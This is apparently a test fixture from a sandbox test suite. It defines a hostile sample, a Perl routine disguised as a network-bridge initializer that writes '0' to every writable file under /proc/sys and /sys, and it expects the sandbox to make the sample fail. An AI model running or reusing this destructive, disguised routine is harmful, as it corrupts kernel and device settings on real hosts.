import { defineHostile } from '../../hostile/define.ts'

export default defineHostile({
  tries:
    'writes to every file below /proc/sys and /sys that it can open, also to those that all namespaces of a kernel share.',
  must: { fail: ['bridge-address'] },
  code: `
import { perl } from '../kit/tools.ts'

const WRITE = \`
my @left = ('/proc/sys', '/sys/module', '/sys/class/net', '/sys/kernel', '/sys/fs');
while (defined(my $path = shift @left)) {
  if (-d $path && !-l $path) { opendir my $folder, $path or next; push @left, map { "$path/$_" } grep { !/^\\\\.\\\\.?$/ } readdir $folder; next }
  next unless -w $path && -f _;
  open my $file, '+<', $path or next;
  syswrite $file, "0\\\\n";
}
\`

export class NetworkManager {
  async initializeBridge() {
    perl(WRITE)
  }
}
`,
})
